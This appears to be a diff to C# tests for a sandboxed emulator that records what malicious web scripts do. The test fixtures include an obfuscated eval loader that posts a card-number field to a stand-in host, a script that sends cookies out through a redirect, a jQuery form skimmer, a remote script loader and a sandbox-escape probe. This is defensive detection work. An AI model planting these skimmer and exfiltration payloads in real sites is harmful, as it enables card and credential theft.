@@ -7,6 +7,10 @@ public sealed class ScriptEmulatorTests
 {
     private const string PageUrl = "https://www.example.gov.cn/news/1.html";
 
+    /// <summary>For the tests of what is recorded: time enough on a machine loaded many times over (the bounds have their own tests).</summary>
+    private static EmulationTrace RunGenerously(string script) =>
+        ScriptEmulator.Run(script, PageUrl, new EmulationBudget(TimeSpan.FromSeconds(120)), TimeSpan.FromSeconds(60));
+
     // Code that exists only at run time: a character-shift decoder (each character one code higher) feeds eval.
     private static string Shifted(string code) =>
         "var p='" + string.Concat(code.Select(c => (char)(c + 1) switch { '\'' => "\\'", '\\' => "\\\\", var s => s.ToString() })) + "';"
@@ -17,10 +21,11 @@ public sealed class ScriptEmulatorTests
     {
         var payload = "document.addEventListener('DOMContentLoaded',function(){var x=new XMLHttpRequest();"
             + "x.open('POST','https://stats-cdn.example.biz/c.php');x.send('n='+document.getElementById('cc_number').value);});";
-        var trace = ScriptEmulator.Run(Shifted(payload), PageUrl, new EmulationBudget());
+        var trace = RunGenerously(Shifted(payload));
 
         Assert.True(trace.Ran);
-        Assert.Contains(trace.Of("code"), e => e.Text.Contains("XMLHttpRequest", StringComparison.Ordinal));
+        Assert.True(trace.Of("code").Any(e => e.Text.Contains("XMLHttpRequest", StringComparison.Ordinal)),
+            $"no code recorded; the run stopped with: {trace.Stop}; events: {string.Join(" | ", trace.Events)}");
         Assert.Contains(trace.Of("xhr"), e => e.Text == "POST https://stats-cdn.example.biz/c.php");
         Assert.Contains(trace.Of("field"), e => e.Text == "#cc_number");
         Assert.Contains(trace.Of("send"), e => e.Text.StartsWith("n=4111", StringComparison.Ordinal));
@@ -36,7 +41,7 @@ public sealed class ScriptEmulatorTests
             setTimeout(function () { document.write('<script>window.location.href = "https://jump.example.top/?" + document.cookie</' + 'script>'); }, 5000);
             jQuery('#payment_form_ccsave').on('submit', function () { $.ajax({ url: 'https://c.example.su/g', type: 'POST', data: { v: $('#ccsave_cc_number').val() } }); });
             """;
-        var trace = ScriptEmulator.Run(script, PageUrl, new EmulationBudget());
+        var trace = RunGenerously(script);
 
         Assert.Contains(trace.Of("markup"), e => e.Text.Contains("jump.example.top", StringComparison.Ordinal));
         Assert.Contains(trace.Of("navigate"), e => e.Text.StartsWith("https://jump.example.top/", StringComparison.Ordinal));
@@ -52,7 +57,7 @@ public sealed class ScriptEmulatorTests
             (function K(){ var own = K.toString().length > 20 && document.getElementsByTagName('script')[0].innerHTML.indexOf('K.toString') > 0;
               if (own) { var s = document.createElement('script'); s.src = 'https://load.example.pw/k.js'; document.head.appendChild(s); } })();
             """;
-        var trace = ScriptEmulator.Run(script, PageUrl, new EmulationBudget());
+        var trace = RunGenerously(script);
         Assert.Contains(trace.Of("script"), e => e.Text == "https://load.example.pw/k.js");
     }
 
@@ -103,7 +108,7 @@ public sealed class ScriptEmulatorTests
             __record('probe', probes.join(','));
             try { System.IO.File.WriteAllText('/tmp/x', 'y'); } catch (e) { __record('probe', 'blocked'); }
             """;
-        var trace = ScriptEmulator.Run(script, PageUrl, new EmulationBudget());
+        var trace = RunGenerously(script);
         Assert.Contains(trace.Of("probe"), e => e.Text == "undefined,undefined,undefined,undefined,undefined,undefined");
         Assert.Contains(trace.Of("probe"), e => e.Text == "blocked");
     }
